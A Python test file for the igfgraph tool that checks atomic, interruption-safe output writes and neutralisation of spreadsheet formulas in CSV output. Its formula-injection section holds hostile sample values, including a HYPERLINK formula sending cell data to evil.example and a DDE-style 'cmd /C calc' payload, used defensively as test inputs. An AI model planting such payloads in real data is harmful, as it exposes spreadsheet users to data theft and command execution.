"""Outputs all or nothing: interrupted, killed or out of disk, a folder is old or new, whole.

The outputs of ``igfgraph all`` are rendered once per module from the mini package
(``new``) and from a copy with one body renamed (``old``); each test writes them with
:func:`igfgraph.fileio.write_folder` and interrupts it at a step: every system call
that touches the disk counts as one, and the points are all of them (in process, by
a real SIGINT) or a seeded sample of them (in a child process, by SIGKILL). Two runs of
the real ``igfgraph all`` are also interrupted after seeded delays.
"""

from __future__ import annotations

import errno
import os
import pickle
import random
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from igfgraph import fileio
from igfgraph.cli import cli
from igfgraph.exceptions import OutputError
from tests.conftest import ROOT, make_package
from tests.test_tables import edit

SEED = 20261205


def state(folder: Path) -> dict[str, bytes] | None:
    """Return {name: bytes} of a folder, or None when it is missing."""
    if not folder.exists():
        return None
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.parent.iterdir() if p.name.startswith(f".{folder.name}."))


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """(old, new): the files of ``igfgraph all`` for two versions of the mini package."""
    from igfgraph.pipeline import render_all

    new_data = make_package(tmp_path_factory.mktemp("new"))
    old_data = make_package(tmp_path_factory.mktemp("old"))

    def rename(rows):
        rows[2]["name"] = "Dynamic Coalition C (former name)"
        return rows

    edit(old_data, "bodies", rename)
    old, new = render_all(old_data), render_all(new_data)
    # 14, and the docs: ontology.html, themes.html, classes.dot, classes.svg (with Graphviz)
    top = [n for n in new if "/" not in n]
    assert set(old) == set(new) and len(top) == 17 + (shutil.which("dot") is not None)
    assert old["igf.ttl"] != new["igf.ttl"] and old["map.html"] != new["map.html"]
    return {k: fileio._payload(v) for k, v in old.items()}, {
        k: fileio._payload(v) for k, v in new.items()
    }


# The steps: each call that changes something on disk.
_STEPS = [
    (os, "open"),
    (os, "fsync"),
    (os, "rename"),
    (os, "replace"),
    (os, "chmod"),
    (os, "mkdir"),
    (fileio, "_exchange"),
    (fileio.shutil, "rmtree"),
]


def _count_steps(monkeypatch, at: int | None, action) -> list[int]:
    """Wrap every step; call ``action()`` before the step numbered ``at``."""
    counter = [0]
    for owner, name in _STEPS:
        original = getattr(owner, name)

        def wrapped(*args, _original=original, **kwargs):
            counter[0] += 1
            if counter[0] == at:
                action()
            return _original(*args, **kwargs)

        monkeypatch.setattr(owner, name, wrapped)
    return counter


@pytest.fixture(params=["exchange", "two-renames"])
def swap_kind(request, monkeypatch):
    """Run each test with the one-step exchange and with the two-rename fallback."""
    if request.param == "exchange":
        if fileio._RENAMEAT2 is None:
            pytest.skip("renameat2 is not available on this platform")
    else:
        monkeypatch.setattr(fileio, "_RENAMEAT2", None)
    return request.param


def test_sigint_at_every_step_leaves_old_or_new_whole(tmp_path, rendered, swap_kind):
    old, new = rendered
    target = tmp_path / "out put é"
    with pytest.MonkeyPatch.context() as mp:
        total = _count_steps(mp, None, lambda: None)
        fileio.write_folder(target, old)
        total[0] = 0
        fileio.write_folder(target, new)
        steps = total[0]
    assert steps >= 2 * len(new)  # an open and an fsync per file at least
    outcomes = set()
    for at in range(1, steps + 1):
        fileio.write_folder(target, old)
        with pytest.MonkeyPatch.context() as mp:
            _count_steps(mp, at, lambda: os.kill(os.getpid(), signal.SIGINT))
            try:
                fileio.write_folder(target, new)
                time.sleep(0.01)  # a signal held back during the swap arrives here
            except KeyboardInterrupt:
                pass
        after = state(target)
        assert after in (old, new), f"step {at} of {steps}: a mix"
        outcomes.add("new" if after == new else "old")
    assert outcomes == {"old", "new"}
    fileio.write_folder(target, new)
    assert leftovers(target) == [] and state(target) == new


_CHILD = """
import os, pickle, signal, sys
from igfgraph import fileio
target, files, at, exchange = pickle.loads(sys.stdin.buffer.read())
if not exchange:
    fileio._RENAMEAT2 = None
steps = [(os, "open"), (os, "fsync"), (os, "rename"), (os, "replace"), (os, "chmod"),
         (os, "mkdir"), (fileio, "_exchange"), (fileio.shutil, "rmtree")]
count = [0]
for owner, name in steps:
    original = getattr(owner, name)
    def wrapped(*a, _o=original, **k):
        count[0] += 1
        if count[0] == at:
            os.kill(os.getpid(), signal.SIGKILL)
        return _o(*a, **k)
    setattr(owner, name, wrapped)
fileio.write_folder(target, files)
print(count[0])
"""


def _child(target: Path, files, at: int, exchange: bool) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", _CHILD],
        input=pickle.dumps((target, files, at, exchange)),
        capture_output=True,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        check=False,
    )


def test_sigkill_at_seeded_steps_leaves_old_or_new_whole(tmp_path, rendered, swap_kind):
    old, new = rendered
    exchange = swap_kind == "exchange"
    target = tmp_path / "out"
    fileio.write_folder(target, old)
    full = _child(target, new, 0, exchange)
    assert full.returncode == 0, full.stderr.decode()
    steps = int(full.stdout)
    points = sorted(random.Random(SEED).sample(range(1, steps + 1), k=min(10, steps)))
    points = sorted({*points, steps - 2, steps - 1, steps})  # the swap is among the last
    outcomes = set()
    for at in points:
        fileio.write_folder(target, old)
        killed = _child(target, new, at, exchange)
        assert killed.returncode == -signal.SIGKILL, (at, killed.stderr.decode())
        after = state(target)
        if not exchange and after is None:
            # killed between the fallback's two renames: the next run puts the old back
            fileio._recover(target)
            after = state(target)
        assert after in (old, new), f"SIGKILL at step {at} of {steps}: a mix"
        outcomes.add("new" if after == new else "old")
    assert "old" in outcomes
    fileio.write_folder(target, new)  # cleans what the killed runs left
    assert leftovers(target) == [] and state(target) == new


def test_map_and_table_are_replaced_together_on_sigint(tmp_path, rendered):
    old, new = rendered
    files = [tmp_path / "map.html", tmp_path / "map-table.html"]
    (tmp_path / "mine.txt").write_text("not ours")
    with pytest.MonkeyPatch.context() as mp:
        total = _count_steps(mp, None, lambda: None)
        fileio.write_files({f: new[f.name] for f in files})
        steps = total[0]
    for at in range(1, steps + 1):
        fileio.write_files({f: old[f.name] for f in files})
        with pytest.MonkeyPatch.context() as mp:
            _count_steps(mp, at, lambda: os.kill(os.getpid(), signal.SIGINT))
            try:
                fileio.write_files({f: new[f.name] for f in files})
                time.sleep(0.01)
            except KeyboardInterrupt:
                pass
        pair = [f.read_bytes() for f in files]
        assert pair in ([old[f.name] for f in files], [new[f.name] for f in files]), at
    assert sorted(p.name for p in tmp_path.iterdir()) == ["map-table.html", "map.html", "mine.txt"]


def test_full_disk_is_one_line_and_changes_nothing(tmp_path, rendered, monkeypatch):
    old, new = rendered
    target = tmp_path / "out"
    fileio.write_folder(target, old)

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OutputError, match="no space left on the device; nothing was replaced"):
        fileio.write_folder(target, new)
    assert state(target) == old and leftovers(target) == []
    # through the command line: one line on stderr, exit 1, old output untouched
    monkeypatch.setattr("igfgraph.pipeline.render_all", lambda *a, **k: new)
    result = CliRunner().invoke(cli, ["all", "--out", str(target)])
    assert result.exit_code == 1
    assert result.output.count("\n") == 1 and "no space left on the device" in result.output
    assert state(target) == old and leftovers(target) == []
    single = tmp_path / "g.ttl"
    single.write_text("OLD")
    with pytest.raises(OutputError, match=f"{single}: cannot write the file: no space left"):
        fileio.write_atomic(single, "new")
    assert single.read_text() == "OLD" and leftovers(single) == []


def test_all_refuses_a_folder_holding_other_files(tmp_path, rendered, monkeypatch):
    old, new = rendered
    target = tmp_path / "out"
    fileio.write_folder(target, old)
    (target / "notes.txt").write_text("mine")
    monkeypatch.setattr("igfgraph.pipeline.render_all", lambda *a, **k: new)
    result = CliRunner().invoke(cli, ["all", "--out", str(target)])
    assert result.exit_code == 1
    assert "holds 1 entry igfgraph all does not write (notes.txt)" in result.output
    assert state(target) == {**old, "notes.txt": b"mine"}


def test_write_folder_keeps_permissions_and_follows_a_link(tmp_path, rendered):
    old, new = rendered
    real = tmp_path / "real"
    fileio.write_folder(real, old)
    os.chmod(real, 0o750)
    link = tmp_path / "link"
    link.symlink_to(real)
    fileio.write_folder(link, new)
    assert link.is_symlink() and state(real) == new
    assert (real.stat().st_mode & 0o777) == 0o750


def test_every_writer_goes_through_fileio(tmp_path, mini_built, monkeypatch):
    """One atomic-write helper: no module but fileio renames files into place."""
    import re

    for path in sorted((ROOT / "igfgraph").rglob("*.py")):
        if path.name == "fileio.py":
            continue
        text = path.read_text(encoding="utf-8")
        # the marks of a hand-made atomic write: a temporary file renamed over a target
        found = re.findall(r"os\.replace\(|os\.rename\(|mkstemp\(|\.rename\((?!columns=)\w", text)
        assert found == [], (path.name, found)
    calls = []
    original = fileio._write_temp

    def spy(path, payload):
        calls.append(Path(path).name)
        return original(path, payload)

    monkeypatch.setattr(fileio, "_write_temp", spy)
    import networkx as nx

    from igfgraph import maps, plots, serialize

    G = nx.Graph()
    G.add_edge("a", "b", kind="liaison")
    maps.write_view(G, tmp_path / "v.html")
    serialize.write_graph(mini_built.graph, tmp_path / "g.ttl")
    import matplotlib.pyplot as plt

    fig = plt.figure()
    plots.save_figure(fig, tmp_path / "fig")
    plt.close(fig)
    assert calls == ["v-table.html", "v.html", "g.ttl", "fig.png", "fig.svg"]


def test_push_replaces_a_disk_store_in_one_step(tmp_path, mini_built):
    from rdflib import Graph

    from igfgraph.stores import open_graph, push

    target = tmp_path / "store"
    first = push(mini_built.graph, f"oxigraph:{target}")
    part = Graph()
    for triple in sorted(mini_built.graph)[:10]:
        part.add(triple)
    second = push(part, f"oxigraph:{target}")
    assert (first.triples, second.triples) == (len(mini_built.graph), 10)
    assert len(open_graph(f"oxigraph:{target}")) == 10
    assert leftovers(target) == []


def test_real_igfgraph_all_interrupted_after_seeded_delays(tmp_path, rendered):
    """Run the real command, then signal it after seeded delays: the folder is never mixed."""
    old, _ = rendered
    data = make_package(tmp_path / "data")
    target = tmp_path / "out"
    command = [sys.executable, "-m", "igfgraph", "all", "--data", str(data), "--out", str(target)]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    start = time.monotonic()
    subprocess.run(command, env=env, check=True, capture_output=True)
    duration = time.monotonic() - start
    new = state(target)
    rng = random.Random(SEED)
    for sig in (signal.SIGINT, signal.SIGKILL):
        delay = rng.uniform(0.3, 1.0) * duration
        fileio.write_folder(target, old)
        child = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        time.sleep(delay)
        child.send_signal(sig)
        _out, err = child.communicate(timeout=600)
        assert b"Traceback" not in err
        assert state(target) in (old, new), f"{sig!r} after {delay:.2f} s: a mix"
    subprocess.run(command, env=env, check=True, capture_output=True)
    assert state(target) == new and leftovers(target) == []


# --- formula injection ---------------------------------------------------------------

#: names a spreadsheet would run as formulas (the issue's examples)
HOSTILE = {
    "acronym": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dc-b": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dc-c": "+1",
    "pn-x": "-cmd",
    "theme": "=Security",
    "recommendation": "\tTab-led title",
}


@pytest.fixture(scope="module")
def hostile_package(tmp_path_factory) -> Path:
    """The mini package with formula-like body names, theme label and recommendation title."""
    folder = make_package(tmp_path_factory.mktemp("hostile"))

    def names(rows):
        for row in rows:
            row["name"] = HOSTILE.get(row["id"], row["name"])
        return rows

    def acronym(rows):
        for row in rows:
            if (row["body_id"], row["type"]) == ("dc-a", "acronym"):
                row["value"] = HOSTILE["acronym"]
        return rows

    def label(rows):
        for row in rows:
            if row["id"] == "security":
                row["label"] = HOSTILE["theme"]
        return rows

    def title(rows):
        rows[0]["title"] = HOSTILE["recommendation"]
        return rows

    edit(folder, "bodies", names)
    edit(folder, "body_names", acronym)
    edit(folder, "themes", label)
    edit(folder, "recommendations", title)
    return folder


def _assert_neutral(text: str, where: str, sep: str = ",") -> set[str]:
    """Check that no cell of a CSV text starts like a formula, save numbers; return cells."""
    import csv as csvmod
    import io

    cells = set()
    for row in csvmod.reader(io.StringIO(text), delimiter=sep):
        for cell in row:
            cells.add(cell)
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a number may start so (a negative score, say)
    assert cells, where
    return cells


def test_formula_names_are_neutralised_in_every_csv_output(hostile_package, tmp_path):
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["all", "--data", str(hostile_package), "--out", str(out)])
    assert result.exit_code == 0, result.output
    seen = set()
    csvs = sorted(out.glob("*.csv"))
    assert [p.name for p in csvs] == [
        "centrality.csv", "communities.csv", "coverage.csv", "gaps.csv", "overlap.csv",
        "recommendations.csv",
    ]  # fmt: skip
    for path in csvs:
        seen |= _assert_neutral(path.read_text(encoding="utf-8"), path.name)
    for args, sep in [
        (("overlap", "--format", "csv"), ","),
        (("gaps", "--format", "csv"), ","),
        (("recommendations", "--format", "csv"), ","),
        (("centrality", "--format", "csv"), ","),
        (("communities", "--format", "csv"), ","),
        (("coverage", "--format", "csv"), ","),
        (("stats", "--format", "csv"), ","),
        (("query", "SELECT ?n WHERE { ?b skos:prefLabel ?n } ORDER BY ?n", "--format", "csv"), ","),
        (
            ("query", "SELECT ?n WHERE { ?b skos:prefLabel ?n } ORDER BY ?n", "--format", "tsv"),
            "\t",
        ),
    ]:
        printed = CliRunner().invoke(cli, [*args, "--data", str(hostile_package)])
        assert printed.exit_code == 0, printed.output
        seen |= _assert_neutral(printed.stdout, " ".join(args[:3]), sep)
    # every hostile name reached some CSV output, neutralised by one leading quote
    for value in HOSTILE.values():
        assert "'" + value in seen, value
    # numbers stay numbers: a negative number in a query result is not quoted
    negative = CliRunner().invoke(
        cli,
        ["query", "SELECT ?x ?s WHERE { VALUES (?x ?s) { (-5 '-5') (-0.25 '=1') } }",
         "--data", str(hostile_package), "--format", "csv"],
    )  # fmt: skip
    assert negative.stdout.splitlines() == ["x,s", "-5,'-5", "-0.25,'=1"]


def test_all_out_is_a_relative_folder_with_spaces_and_non_ascii(tmp_path, rendered, monkeypatch):
    _old, new = rendered
    monkeypatch.setattr("igfgraph.pipeline.render_all", lambda *a, **k: new)
    monkeypatch.chdir(tmp_path)
    for _ in range(2):  # a new folder, then the output of an earlier run
        result = CliRunner().invoke(cli, ["all", "--out", "sortie ü/dossier é"])
        assert result.exit_code == 0, result.output
        assert state(tmp_path / "sortie ü" / "dossier é") == new
    assert sorted(p.name for p in (tmp_path / "sortie ü").iterdir()) == ["dossier é"]
    # the tables, map, report and figures, the docs and the site: as many as it lists
    head, *listed = result.output.strip().splitlines()
    assert head == f"igfgraph wrote {len(listed)} files to sortie ü/dossier é/:"
    assert all(line.startswith("  sortie ü/dossier é/") for line in listed)
